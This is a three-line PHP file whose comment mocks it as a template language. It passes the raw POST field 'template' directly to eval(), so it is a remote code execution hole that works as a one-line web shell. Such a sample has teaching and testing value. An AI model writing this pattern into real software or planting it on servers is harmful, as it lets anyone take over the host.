<?php
// Somebody's idea of a template language.
eval($_POST['template'] ?? 'echo "hello";');
